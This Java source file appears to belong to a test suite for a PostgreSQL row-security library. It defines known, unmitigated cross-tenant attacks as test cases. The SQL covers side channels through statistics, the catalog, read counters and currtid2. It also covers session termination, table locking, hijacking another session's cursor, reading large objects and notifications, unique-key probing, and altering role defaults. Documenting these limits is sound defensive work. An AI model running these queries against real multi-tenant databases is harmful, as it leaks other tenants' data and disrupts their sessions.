package dev.rls.liquibase.attacks;

import java.sql.SQLException;
import java.util.List;

/** What nothing stops. SECURITY.md says what limits it; where PostgreSQL closes one of them, this tells. */
final class Open {

    private static final String STATISTICS = "`EXPLAIN` and planner statistics show values";
    private static final String UNCOVERED = "what row security does not cover";

    private Open() {}

    static List<Attack> all() {
        return List.of(
                of("estimate", "Whether many rows have a value, by the estimate for it", STATISTICS, attacker -> {
                    attacker.admin(
                            "insert into invoice select 'globex', g, 'z' || g, 1, 0 from generate_series(100, 2000) g",
                            "analyze invoice");
                    attacker.estimatedApart(
                            attacker.boundToAcme(),
                            "select from invoice where number > 'y'",
                            "select from invoice where number > 'zz'");
                }),
                of(
                        "number-of-rows",
                        "How many rows all tenants have",
                        STATISTICS,
                        attacker -> attacker.acme("select '" + Attacker.SUCCESS
                                + "' from pg_class where relname = 'invoice' and reltuples > 1")),
                of(
                        "bounds-of-partitions",
                        "The names of tenants, by which a table is partitioned",
                        "the catalog is everybody's to read",
                        attacker -> attacker.acme("select '" + Attacker.SUCCESS + "' from pg_class where relispartition"
                                + " and pg_get_expr(relpartbound, oid) like '%globex%'")),
                of(
                        "counter",
                        "Whether a comparison with a value held, by what was read after it",
                        "counters of table and index reads",
                        attacker -> {
                            Session session = attacker.boundToAcme();
                            String first = reads(session, "g47110815");
                            if (!first.equals(reads(session, "g47110816"))) {
                                session.tell(Attacker.SUCCESS);
                            }
                        }),
                of(
                        "merge-that-counts",
                        "All rows, counted by a MERGE that looks at none",
                        "a MERGE that refers to no column of its target asks no policy",
                        attacker -> attacker.acme(
                                "merge into invoice using (values (1)) v (x) on true when matched and nextval('invoice_seq') < 0"
                                        + " then delete",
                                "select '" + Attacker.SUCCESS + "' where currval('invoice_seq') > 1")),
                of(
                        "newest-version",
                        "Whether a foreign row was changed, by the place of its newest version",
                        "`currtid2` tells the place of the newest version of a row",
                        attacker -> {
                            String moved =
                                    "select coalesce(string_agg(currtid2('invoice', place)::text, ' '), 'none') from"
                                            + " (select format('(%s,%s)', block, number)::tid place from generate_series(0,"
                                            + " pg_relation_size('invoice') / 8192 - 1) block, generate_series(1, 200) number) p"
                                            + " where currtid2('invoice', place) <> place";
                            Session session = attacker.boundToAcme();
                            String before = session.value(moved);
                            attacker.victim()
                                    .sql("update invoice set number = number")
                                    .commit();
                            attacker.settle();
                            if (before != null && !before.equals(session.value(moved))) {
                                session.tell(Attacker.SUCCESS);
                            }
                        }),
                of("lock", "A lock that all others wait for", "`lock table` in any mode", attacker -> {
                    attacker.boundToAcme().sql("lock table invoice in access exclusive mode");
                    stopped(attacker, attacker.victim().sql("set local lock_timeout = '100ms'"));
                }),
                of("terminate", "The end of another session", "sessions of one login see each other", attacker -> {
                    Session bob = attacker.victim();
                    attacker.acme("select pg_terminate_backend(pid, 1000) from pg_stat_activity"
                            + " where datname = current_database() and pid <> pg_backend_pid()");
                    try {
                        stopped(attacker, bob);
                    } catch (SQLException e) {
                        attacker.open().tell(Attacker.SUCCESS);
                    }
                }),
                of(
                        "cursor-with-hold",
                        "A cursor that somebody left open",
                        "session state that SQL text leaves",
                        attacker -> {
                            Session session = attacker.open();
                            attacker.somebodyElse(
                                    session,
                                    bob -> bob.bind(attacker.tokens().of("globex"))
                                            .sql("declare c cursor with hold for select * from invoice")
                                            .commit());
                            session.sql("fetch all from c");
                        }),
                of(
                        "cursor-beyond-the-end",
                        "A cursor that goes on after its token has ended",
                        "a cursor goes on after the token has ended",
                        attacker -> {
                            attacker.admin("insert into invoice values ('globex', 20, 'g47110815b', 1, 0)");
                            Session session = attacker.open();
                            Contexts.ended(
                                    attacker, session, "declare c cursor for select * from invoice", "fetch from c");
                            session.sql("fetch all from c");
                        }),
                of("listen", "What others notify each other of", UNCOVERED, attacker -> {
                    Session session = attacker.open().sql("listen orders").commit();
                    attacker.victim().sql("notify orders, 'g47110815'").commit();
                    session.notifications();
                }),
                of(
                        "large-object",
                        "A large object of another tenant's, which the same login made",
                        UNCOVERED,
                        attacker -> {
                            attacker.victim()
                                    .sql("select lo_from_bytea(0, 'g47110815')")
                                    .commit();
                            attacker.acme("select encode(lo_get(oid), 'escape') from pg_largeobject_metadata");
                        }),
                of("advisory-lock", "The number that somebody has locked", UNCOVERED, attacker -> {
                    attacker.victim().sql("select pg_advisory_xact_lock(47110815)");
                    attacker.acme("select objid from pg_locks where locktype = 'advisory'");
                }),
                of(
                        "key-without-tenant",
                        "Whether a value is taken, where the key lacks the tenant",
                        "unique keys say whether a value exists",
                        attacker -> {
                            attacker.admin("create unique index on invoice (number)");
                            attacker.apart(
                                    attacker.boundToAcme(),
                                    "update invoice set number = 'g47110815'",
                                    "update invoice set number = 'g47110816'");
                        }),
                of(
                        "default-of-the-login",
                        "A default of the login's own, for all its sessions to come",
                        "the application's login may change its own password and defaults",
                        attacker -> {
                            attacker.open()
                                    .sql("alter role application in database "
                                            + attacker.database().name() + " set default_transaction_read_only = on")
                                    .commit();
                            Session bob = attacker.victim().sql("update invoice set amount = 1");
                            if (bob.told().contains("error 25006")) {
                                attacker.open().tell(Attacker.SUCCESS);
                            }
                        }));
    }

    private static String reads(Session session, String label) throws SQLException {
        String reads = "select seq_scan + idx_scan from pg_stat_xact_user_tables where relname = 'invoice'";
        long before = Long.parseLong(session.value(reads));
        session.sql("select 1 from line where label = '" + label + "'");
        return String.valueOf(Long.parseLong(session.value(reads)) - before);
    }

    private static void stopped(Attacker attacker, Session bob) throws SQLException {
        if (bob.sql("select 1 from invoice").told().contains("error ")) {
            attacker.open().tell(Attacker.SUCCESS);
        }
    }

    private static Attack of(String id, String tries, String limit, Attack.Script script) {
        return Attack.open(id, "Open", tries, limit, script);
    }
}
